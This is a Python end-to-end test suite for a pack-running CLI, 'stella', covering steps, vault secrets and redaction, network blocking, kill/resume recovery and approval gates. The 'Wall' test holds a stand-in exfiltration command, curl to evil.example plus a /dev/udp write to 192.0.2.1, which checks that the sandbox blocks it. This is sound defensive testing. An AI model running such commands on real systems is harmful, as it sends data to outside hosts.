# SPDX-License-Identifier: Apache-2.0
"""Runs end to end with the built binary: steps, secrets, failures, interruptions, kill -9 at every named point."""
import json
import os
import signal
import subprocess
import time
import unittest

from harness import SealedSite, main

SECRET = "correct-horse-battery-staple"


class RunTest(SealedSite):
    def setUp(self):
        super().setUp()
        self.apply()

    def step(self, name, script, **more):
        run = {"script": script}
        run.update({key: more.pop(key) for key in list(more) if key in ("secrets", "timeout", "retries", "onCrash", "continueOnError", "env")})
        return {"id": name, "run": run, **more}

    def run_pack(self, steps, *args, expect=0, name="job", env=None, **spec):
        bundle = self.pack(name, steps, **spec)
        result = self.stella("--output", "json", "pack", "run", "--bundle", bundle, *args, expect=expect, env=env)
        return result.json if result.out else None

    def last_run(self):
        return self.stella("--output", "json", "pack", "runs", "list").json["runs"][0]["runId"]

    def show(self, run):
        return self.stella("--output", "json", "pack", "runs", "show", run).json

    def types(self, run):
        return [event["type"] + (" " + event["step"] if "step" in event else "") for event in self.events(run)]

    def wait_for(self, condition, seconds=30):
        until = time.time() + seconds
        while time.time() < until:
            found = condition()
            if found:
                return found
            time.sleep(0.05)
        self.fail("it did not happen in time")

    def wait_for_step(self, step):
        """The run id, once its step was started."""
        def started():
            if not os.path.exists(os.path.join(self.home, "runs", "journal.db")):
                return None
            runs = self.stella("--output", "json", "pack", "runs", "list").json["runs"]
            if runs and runs[0]["state"] == "running" and f"pack.step.started {step}" in self.types(runs[0]["runId"]):
                return runs[0]["runId"]
            return None
        return self.wait_for(started)


class Finishing(RunTest):
    def test_runs_steps_hands_outputs_on_and_stores_artifacts(self):
        result = self.run_pack([
            self.step("make", "echo hello; printf 'ready=yes\\n' > \"$STELLA_OUTPUT\"; echo '{}' > /artifacts/report.json"),
            {"id": "use", "when": "steps.make.outputs.ready == 'yes'", "run": {"command": ["echo", "${{ steps.make.outputs.ready }}"]}},
            {"id": "not", "when": "steps.make.outputs.ready == 'no'", "run": {"command": ["false"]}},
        ], outputs=[{"name": "report", "type": "file", "path": "report.json"}])
        self.assertEqual((result["state"], result["exit"], result["code"], result["attempt"]), ("succeeded", 0, None, 1))
        self.assertTrue(result["planHash"].startswith("sha256:"))
        self.assertEqual([step["state"] for step in result["steps"]], ["succeeded", "succeeded", "skipped"])
        logs = self.stella("pack", "runs", "logs", result["runId"])
        self.assertEqual(logs.out, "make | hello\nuse | yes\n")
        self.assertEqual(self.stella("pack", "runs", "logs", "--run", result["runId"], "--step", "use").out, "use | yes\n")
        self.assertTrue(os.path.isdir(result["evidence"]), result)

    def test_streams_lines_with_their_step(self):
        bundle = self.pack("job", [self.step("say", "echo one; echo two >&2; printf '\\033[31mred\\n'")])
        result = self.stella("pack", "run", "--bundle", bundle)
        for line in ("say | one", "say | two", "say | \\x1b[31mred"):
            self.assertIn(line, result.err)
        run = self.last_run()
        self.assertIn(b"\x1b[31mred", self.stella("pack", "runs", "logs", run, "--raw").out.encode())

    def test_ndjson_gives_events_then_the_result(self):
        bundle = self.pack("job", [self.step("a", "true")])
        lines = [json.loads(line) for line in self.stella("--output", "ndjson", "pack", "run", "--bundle", bundle).out.splitlines()]
        self.assertEqual(lines[-1]["state"], "succeeded")
        self.assertIn("pack.step.finished", [line.get("type") for line in lines])

    def test_fails_with_the_steps_status_and_resumes_as_a_new_attempt(self):
        result = self.run_pack([self.step("one", "echo x >> /work/ones"), self.step("two", "test -e /work/mended")], expect=1)
        self.assertEqual((result["state"], result["code"], result["exit"]), ("failed", "ERR_PACK_STEP_FAILED", 1))
        run = result["runId"]
        dry = self.stella("--output", "json", "pack", "runs", "resume", run, "--dry-run").json
        self.assertEqual([row["what"] for row in dry["steps"]], ["reused", "again"])
        with open(os.path.join(result["folder"], "work", "mended"), "w", encoding="utf-8"):
            pass
        again = self.stella("--output", "json", "pack", "runs", "resume", "--run", run).json
        self.assertEqual((again["state"], again["attempt"]), ("succeeded", 2))
        self.assertEqual(len(self.read(os.path.join(result["folder"], "work", "ones"), "r").splitlines()), 1)
        self.assertEqual(self.stella("--output", "json", "pack", "run", "--resume", run).json["state"], "succeeded")

    def test_missing_output_fails_the_run(self):
        result = self.run_pack([self.step("a", "true")], expect=1, outputs=[{"name": "report", "type": "file", "path": "report.json"}])
        self.assertEqual((result["code"], result["reason"]), ("ERR_PACK_STEP_FAILED", "output"))

    def test_timeout(self):
        result = self.run_pack([self.step("slow", "sleep 60", timeout="PT1S")], expect=1)
        self.assertEqual((result["code"], result["steps"][0]["reason"]), ("ERR_PACK_STEP_TIMEOUT", "timeout"))

    def test_retries_until_it_works(self):
        result = self.run_pack([self.step("flaky", "echo x >> /work/n; test $(wc -l < /work/n) -ge 3", retries={"maxAttempts": 3, "backoffSeconds": 0})])
        self.assertEqual(result["steps"][0]["tries"], 3)

    def test_continues_after_an_error_where_the_pack_says_so(self):
        result = self.run_pack([self.step("bad", "exit 4", continueOnError=True), self.step("next", "true")])
        self.assertEqual([step["state"] for step in result["steps"]], ["continued", "succeeded"])

    def test_folders_too_deep_to_list_do_not_keep_a_run_from_its_evidence(self):
        deep = "import os\nos.chdir('/artifacts')\nfor i in range(300):\n os.mkdir('d'); os.chdir('d')"
        result = self.run_pack([self.step("dig", f'echo kept > /artifacts/note; chmod 000 /artifacts/note; python3 -c "{deep}"')])
        self.assertTrue(os.path.isdir(result["evidence"] or ""), result)
        left_out = json.loads(self.read(os.path.join(result["evidence"], "names.json")))["leftOut"]
        self.assertIn("could not be listed", " ".join(row["why"] for row in left_out))

    def test_policy_gate(self):
        steps = [{"id": "window", "gate.policy": {"expression": "inputs.dry == `false`", "message": "dry runs do not flash"}}, self.step("a", "true")]
        result = self.run_pack(steps, expect=1, inputs=[{"name": "dry", "type": "boolean", "default": True}])
        self.assertEqual(result["reason"], "policy")

    def test_bad_step_output(self):
        result = self.run_pack([self.step("a", "echo 'no equals' > \"$STELLA_OUTPUT\"")], expect=1)
        self.assertEqual(result["reason"], "output-format")


class Refusing(RunTest):
    def test_another_plan_than_was_asked_for(self):
        bundle = self.pack("job", [self.step("a", "true")])
        self.refused("ERR_PACK_HASH_MISMATCH", "pack", "run", "--bundle", bundle, "--plan-hash", "sha256:" + "0" * 64, reason="asked")
        self.assertEqual(self.stella("--output", "json", "pack", "runs", "list").json["runs"], [])
        plan = self.stella("--output", "json", "pack", "plan", "--bundle", bundle).json["planHash"]
        self.stella("pack", "run", "--bundle", bundle, "--plan-hash", plan)

    def test_unsigned_packs_and_missing_ones(self):
        self.refused("ERR_PACK_SIGNATURE", "pack", "run", "--bundle", self.pack("job", [self.step("a", "true")], key=None), reason="unsigned")
        self.refused("ERR_PACK_NOT_FOUND", "pack", "run", "--pack", "job:9.9.9")
        self.refused("ERR_FILE_NOT_FOUND", "pack", "run", "--bundle", self.path("nothing.pack"))

    def test_usage(self):
        self.refused("ERR_USAGE", "pack", "run")
        self.refused("ERR_USAGE", "pack", "run", "--detach", "--pack", "job:1.0.0", reason="not-yet")
        self.refused("ERR_USAGE", "pack", "runs", "show")
        self.refused("ERR_RUN_NOT_FOUND", "pack", "runs", "show", "run:plant-7:20200101T000000000Z")
        self.refused("ERR_RUN_NOT_FOUND", "pack", "runs", "resume", "--run", "../../etc")

    def test_secrets_file_in_sealed_mode(self):
        bundle = self.pack("job", [self.step("a", "true")])
        secrets = self.write("secrets.json", "{}")
        self.refused("ERR_PACK_SECRET_SOURCE", "pack", "run", "--bundle", bundle, "--secrets", secrets)

    def test_a_stored_plan_pack_or_input_that_was_edited(self):
        result = self.run_pack([self.step("a", "false")], expect=1)
        for name, edit in (("plan.json", lambda text: text.replace(b"false", b"true ")), ("inputs.json", lambda text: b'{"x":1}'), ("bundle.pack", lambda text: text[:-2000])):
            path = os.path.join(result["folder"], name)
            before = self.read(path)
            with open(path, "wb") as handle:
                handle.write(edit(before))
            refused = self.stella("--output", "json", "pack", "runs", "resume", result["runId"], expect=None)
            self.assertIn(refused.status, (2, 6), str(refused))
            with open(path, "wb") as handle:
                handle.write(before)

    def test_a_pack_that_the_policy_has_denied_since(self):
        result = self.run_pack([self.step("a", "false")], expect=1)
        self.apply(self.policy(version=2, denied=[{"pack": "job:1.0.0", "reason": "bricks rev B"}]))
        self.refused("ERR_PACK_SIGNATURE", "pack", "runs", "resume", result["runId"], reason="denied")


class Secrets(RunTest):
    def vault(self):
        phrase = self.write("vault.phrase", "vault phrase\n")
        self.stella("vault", "init", "--kdf-memory", "64MiB", "--passphrase-file", phrase)
        return phrase

    def put(self, phrase, name="token"):
        self.stella("vault", "put", name, "--scope", "job", "--passphrase-file", phrase, input=SECRET)

    def assert_nowhere(self, secret):
        for folder, folders, names in os.walk(os.path.join(self.home, "runs")):
            for name in folders + names:
                self.assertNotIn(secret, name, folder)
            for name in names:
                self.assertNotIn(secret.encode(), self.read(os.path.join(folder, name)), name)

    spec = {"secrets": [{"name": "token", "scope": "job", "as": "env", "env": "TOKEN"}]}

    def test_a_missing_secret_pauses_and_the_run_goes_on_once_it_is_there(self):
        phrase = self.vault()
        bundle = self.pack("job", [self.step("use", "test -n \"$TOKEN\"; echo \"got $TOKEN\"; printf %s \"$TOKEN\" | base64", secrets=["token"])], **self.spec)
        error = self.refused("ERR_PACK_SECRET_MISSING", "pack", "run", "--bundle", bundle, "--passphrase-file", phrase)
        self.assertEqual(error["exit"], 2)
        run = self.last_run()
        self.assertEqual(self.show(run)["state"], "paused")
        self.put(phrase)
        result = self.stella("--output", "json", "pack", "runs", "resume", run, "--passphrase-file", phrase).json
        self.assertEqual((result["state"], result["attempt"]), ("succeeded", 1))
        logs = self.stella("pack", "runs", "logs", run).out
        self.assertIn("got [redacted:token]", logs)
        self.assertNotIn("Y29ycmVjdC1ob3JzZS", logs)
        self.assert_nowhere(SECRET)
        leased = [event for event in self.events(run) if event["type"] == "pack.secret.leased"]
        self.assertEqual((leased[0]["data"]["name"], leased[0]["data"]["scope"], leased[0]["data"]["version"]), ("token", "job", 1))

    def test_a_secret_in_an_output_fails_the_step(self):
        phrase = self.vault()
        self.put(phrase)
        result = self.run_pack([self.step("leak", "echo \"x=$TOKEN\" > \"$STELLA_OUTPUT\"", secrets=["token"])], "--passphrase-file", phrase, expect=1, **self.spec)
        self.assertEqual(result["reason"], "secret-in-output")
        self.assert_nowhere(SECRET)

    def test_a_secret_in_a_name_fails_the_step_and_does_not_reach_the_evidence(self):
        phrase = self.vault()
        self.put(phrase)
        result = self.run_pack([self.step("leak", "touch \"/artifacts/$TOKEN.txt\"; exit 1", secrets=["token"], continueOnError=True)],
                               "--passphrase-file", phrase, expect=1, **self.spec)
        self.assertEqual(result["reason"], "secret-in-output")
        self.assert_nowhere(SECRET)

    def test_wrong_passphrase_pauses(self):
        phrase = self.vault()
        self.put(phrase)
        wrong = self.write("wrong.phrase", "not it\n")
        bundle = self.pack("job", [self.step("use", "true", secrets=["token"])], **self.spec)
        self.refused("ERR_VAULT_SHARE", "pack", "run", "--bundle", bundle, "--passphrase-file", wrong, reason="passphrase")
        self.assertEqual(self.show(self.last_run())["state"], "paused")


class Wall(RunTest):
    def test_blocked_attempts_fail_the_run_and_name_the_line(self):
        script = "curl -s --max-time 5 http://evil.example/ || true; exec 3<>/dev/udp/192.0.2.1/53 && echo x >&3 || true"
        bundle = self.pack("job", [{"id": "out", "run": {"command": ["bash", "-c", script]}}])
        result = self.stella("--output", "json", "pack", "run", "--bundle", bundle, expect=5)
        self.assertEqual(result.error["code"], "ERR_PACK_NETWORK_BLOCKED")
        self.assertIn("192.0.2.1", result.error["fix"])
        blocked = result.json["blocked"]
        self.assertTrue(any(row["address"] == "192.0.2.1" and row["port"] == 53 and row["protocol"] == "udp" for row in blocked), blocked)
        self.assertEqual({row["step"] for row in blocked}, {"out"})
        self.assertEqual(result.json["state"], "failed")


class Stopping(RunTest):
    def start_slow(self, **more):
        bundle = self.pack("job", [self.step("quick", "true", onCrash="rerun"), self.step("slow", "echo begun; test -e /work/go || sleep 300; echo x >> /work/n", **more), self.step("last", "true")])
        process = self.start("pack", "run", "--bundle", bundle)
        return process, self.wait_for_step("slow")

    def let_go(self, run):
        with open(os.path.join(self.show(run)["folder"], "work", "go"), "w", encoding="utf-8"):
            pass

    def kill(self, process):
        process.kill()
        process.wait(timeout=30)

    def test_sigterm_ends_the_tree_and_pauses(self):
        for number in (signal.SIGTERM, signal.SIGINT):
            process, run = self.start_slow(onCrash="rerun")
            process.send_signal(number)
            self.assertEqual(process.wait(timeout=30), 7)
            shown = self.show(run)
            self.assertEqual((shown["state"], shown["reason"], shown["exit"]), ("paused", "interrupted", 7))
            self.let_go(run)
            self.assertEqual(self.stella("--output", "json", "pack", "runs", "resume", run).json["attempt"], 1)

    def test_kill_then_rerun_as_the_pack_says(self):
        process, run = self.start_slow(onCrash="rerun")
        self.kill(process)
        self.let_go(run)
        result = self.stella("--output", "json", "pack", "runs", "resume", run).json
        self.assertEqual((result["state"], result["attempt"]), ("succeeded", 1))
        self.assertEqual(self.types(run).count("pack.step.started quick"), 1)
        self.assertIn("unknown", [event["data"].get("state") for event in self.events(run) if event["type"] == "pack.step.finished"])

    def test_kill_then_fail_as_the_pack_says(self):
        process, run = self.start_slow(onCrash="fail")
        self.kill(process)
        self.refused("ERR_PACK_STEP_FAILED", "pack", "runs", "resume", run, reason="crash")

    def test_kill_then_ask(self):
        process, run = self.start_slow()
        self.kill(process)
        error = self.refused("ERR_PACK_INTERRUPTED", "pack", "runs", "resume", run, reason="unknown")
        self.assertEqual(error["exit"], 7)
        self.assertIn(f"--run {run} --rerun slow", error["fix"])
        self.assertIn("--fail slow", error["fix"])
        self.refused("ERR_USAGE", "pack", "runs", "resume", run, "--rerun", "last", reason="step")
        self.let_go(run)
        self.assertEqual(self.stella("--output", "json", "pack", "runs", "resume", run, "--rerun", "slow").json["state"], "succeeded")

    def test_kill_then_ask_and_give_up(self):
        process, run = self.start_slow()
        self.kill(process)
        self.stella("pack", "runs", "resume", run, expect=7)
        self.refused("ERR_PACK_STEP_FAILED", "pack", "runs", "resume", run, "--fail", "slow", reason="crash")

    def test_busy(self):
        process, run = self.start_slow()
        self.refused("ERR_RUN_BUSY", "pack", "runs", "resume", run)
        process.terminate()
        process.wait(timeout=30)

    def test_cancel_while_it_runs(self):
        process, run = self.start_slow()
        shown = self.stella("--output", "json", "pack", "runs", "cancel", "--run", run, "--reason", "wrong cell").json
        self.assertEqual(shown["state"], "cancelled")
        self.assertEqual(process.wait(timeout=30), 1)
        self.stella("pack", "runs", "cancel", run)
        self.assertEqual(self.events(run)[-1]["type"], "pack.evidence.sealed")

    def test_a_reason_that_cannot_be_kept_changes_nothing(self):
        run = self.run_pack([{"id": "gate", "gate.approval": {"approval": "review"}}], expect=7, approvals=[{"id": "review", "threshold": 1}])["runId"]
        for reason in ("x" * 5000, "\udcff", "\x1b[31m", "two\nlines"):
            self.refused("ERR_USAGE", "pack", "runs", "cancel", run, "--reason", reason, reason="reason")
        self.assertEqual(self.show(run)["state"], "waiting")
        self.assertNotIn("cancel.json", os.listdir(self.show(run)["folder"]))

    def test_cancel_while_it_waits_and_after_its_end(self):
        result = self.run_pack([{"id": "gate", "gate.approval": {"approval": "review"}}], expect=7, approvals=[{"id": "review", "threshold": 1}])
        self.stella("pack", "runs", "cancel", result["runId"])
        self.assertEqual(self.show(result["runId"])["state"], "cancelled")
        done = self.run_pack([self.step("a", "true")], name="other")
        self.refused("ERR_USAGE", "pack", "runs", "cancel", done["runId"], reason="state")

    def test_follow_ends_with_the_run(self):
        process, run = self.start_slow(onCrash="rerun")
        follower = subprocess.Popen([os.environ["STELLA"], "pack", "runs", "logs", run, "--follow"], env=self.environment(), stdout=subprocess.PIPE)
        self.assertEqual(follower.stdout.readline(), b"slow | begun\n")
        process.terminate()
        process.wait(timeout=30)
        self.assertEqual(follower.wait(timeout=30), 0)
        follower.stdout.close()


class Crashing(RunTest):
    POINTS = ["run.submitted", "run.planned", "run.started", "step.started", "step.started:2", "step.output", "step.finished", "step.finished:2", "run.finished", "run.sealed"]

    def test_finishes_after_a_kill_at_each_point(self):
        bundle = self.pack("job", [self.step("a", "echo said; echo x >> /work/a", onCrash="rerun"), self.step("b", "test -s /work/a", onCrash="rerun")])
        for point in self.POINTS:
            with self.subTest(point=point):
                killed = subprocess.run([os.environ["STELLA"], "pack", "run", "--bundle", bundle], env=self.environment(extra={"STELLA_CRASH_AT": point}),
                                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False, timeout=60)
                self.assertEqual(killed.returncode, -signal.SIGKILL)
                run = self.last_run()
                result = self.stella("--output", "json", "pack", "runs", "resume", run).json
                self.assertEqual((result["state"], result["attempt"]), ("succeeded", 1))
                self.assertTrue(result["evidence"])
                events = self.events(run)
                self.assertEqual([event["seq"] for event in events], list(range(1, len(events) + 1)))
                self.assertEqual(sum(event["type"] == "pack.run.succeeded" for event in events), 1)
                self.assertEqual(sum(event["type"] == "pack.step.finished" and event["data"]["state"] == "succeeded" for event in events), 2)

    def test_a_failed_attempt_keeps_its_evidence_after_a_kill_before_sealing(self):
        bundle = self.pack("job", [self.step("a", "false")])
        for point in ("run.finished", "run.sealed"):
            with self.subTest(point=point):
                subprocess.run([os.environ["STELLA"], "pack", "run", "--bundle", bundle], env=self.environment(extra={"STELLA_CRASH_AT": point}),
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False, timeout=60)
                run = self.last_run()
                result = self.stella("--output", "json", "pack", "runs", "resume", run, expect=1).json
                self.assertEqual(result["attempt"], 2)
                sealed = [event["attempt"] for event in self.events(run) if event["type"] == "pack.evidence.sealed"]
                self.assertEqual(sealed, [1, 2])
                self.assertEqual(len(os.listdir(os.path.join(result["folder"], "evidence"))), 2)

    def test_waits_again_after_a_kill_at_the_gate(self):
        bundle = self.pack("job", [{"id": "gate", "gate.approval": {"approval": "review"}}, self.step("b", "true")], approvals=[{"id": "review", "threshold": 1}])
        subprocess.run([os.environ["STELLA"], "pack", "run", "--bundle", bundle], env=self.environment(extra={"STELLA_CRASH_AT": "gate.waiting"}),
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False, timeout=60)
        run = self.last_run()
        error = self.refused("ERR_PACK_APPROVAL_REQUIRED", "pack", "runs", "resume", run)
        self.assertIn(f"stella pack approve --run {run} --gate review --offline-request", error["fix"])
        self.assertEqual(self.types(run).count("pack.gate.waiting gate"), 1)


class Waiting(RunTest):
    GATE = [{"id": "gate", "gate.approval": {"approval": "review"}}, {"id": "b", "run": {"command": ["true"]}}]

    def test_says_the_next_command_and_waits(self):
        bundle = self.pack("job", self.GATE, approvals=[{"id": "review", "threshold": 2}])
        result = self.stella("pack", "run", "--bundle", bundle, expect=7)
        self.assertIn("waiting ERR_PACK_APPROVAL_REQUIRED: gate review needs 2 approvals, has 0", result.err)
        shown = self.show(self.last_run())
        self.assertEqual(shown["state"], "waiting")
        gate = shown["gates"][0]
        self.assertEqual((gate["gate"], gate["have"], gate["need"], gate["approvers"]), ("review", 0, 2, []))

    def test_expires_when_anybody_looks(self):
        result = self.run_pack(self.GATE, expect=7, approvals=[{"id": "review", "threshold": 1, "expiresAfter": "PT1S"}])
        time.sleep(1.2)
        self.stella("pack", "runs", "list")
        shown = self.show(result["runId"])
        self.assertEqual((shown["state"], shown["code"], shown["exit"]), ("expired", "ERR_PACK_APPROVAL_TIMEOUT", 3))
        again = self.stella("--output", "json", "pack", "runs", "resume", result["runId"], "--extend", "1h", expect=7).json
        self.assertEqual((again["state"], again["attempt"]), ("waiting", 2))

    def test_extends_a_waiting_gate(self):
        result = self.run_pack(self.GATE, expect=7, approvals=[{"id": "review", "threshold": 1, "expiresAfter": "PT1H"}])
        before = result["gates"][0]["expiresAt"]
        after = self.stella("--output", "json", "pack", "runs", "resume", result["runId"], "--extend", "5h", expect=7).json["gates"][0]["expiresAt"]
        self.assertGreater(after, before)

    def test_wait_ends_when_the_gate_runs_out(self):
        bundle = self.pack("job", self.GATE, approvals=[{"id": "review", "threshold": 1, "expiresAfter": "PT2S"}])
        self.refused("ERR_PACK_APPROVAL_TIMEOUT", "pack", "run", "--bundle", bundle, "--wait")

    def test_plans_anew_when_the_policy_changes_while_it_waits(self):
        result = self.run_pack(self.GATE, expect=7, approvals=[{"id": "review", "threshold": 1}])
        stricter = self.policy(version=2)
        stricter["approvals"]["require"] = [{"packs": ["job"], "threshold": 2}]
        self.apply(stricter)
        again = self.stella("--output", "json", "pack", "runs", "resume", result["runId"], expect=7).json
        self.assertEqual((again["state"], again["attempt"], again["gates"][0]["need"]), ("waiting", 2, 2))
        self.assertNotEqual(again["planHash"], result["planHash"])


@unittest.skipUnless(os.geteuid() == 0, "mounting a small disk needs root")
class FullDisk(RunTest):
    def make_home(self, name):
        path = super().make_home(name)
        mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=24m,mode=0700", "tmpfs", path], check=False, capture_output=True)
        if mounted.returncode != 0:
            self.skipTest("tmpfs cannot be mounted here")
        self.addCleanup(subprocess.run, ["umount", "-l", path], check=False)
        return path

    def test_pauses_and_goes_on_once_there_is_room(self):
        bundle = self.pack("job", [self.step("fill", "test -e /work/go || cat /dev/zero > /work/big", onCrash="rerun")])
        error = self.refused("ERR_ARTIFACT_STORE", "pack", "run", "--bundle", bundle)
        self.assertEqual(error["exit"], 8)
        shown = self.show(self.last_run())
        self.assertEqual((shown["state"], shown["code"]), ("paused", "ERR_ARTIFACT_STORE"))
        os.unlink(os.path.join(shown["folder"], "work", "big"))
        with open(os.path.join(shown["folder"], "work", "go"), "w", encoding="utf-8"):
            pass
        result = self.stella("--output", "json", "pack", "runs", "resume", shown["runId"]).json
        self.assertEqual((result["state"], result["attempt"]), ("succeeded", 1))


class Constrained(RunTest):
    mode = "connected"

    def test_takes_secrets_from_a_file_that_only_the_owner_reads(self):
        bundle = self.pack("job", [self.step("use", "test \"$(cat /run/secrets/token)\" = correct-horse-battery-staple", secrets=["token"])],
                           secrets=[{"name": "token", "scope": "job", "as": "file"}])
        secrets = self.write("secrets.json", json.dumps({"token": SECRET}))
        self.stella("pack", "run", "--bundle", bundle, "--secrets", secrets)
        os.chmod(secrets, 0o644)
        self.refused("ERR_KEY_UNUSABLE", "pack", "run", "--bundle", bundle, "--secrets", secrets)


if __name__ == "__main__":
    main()
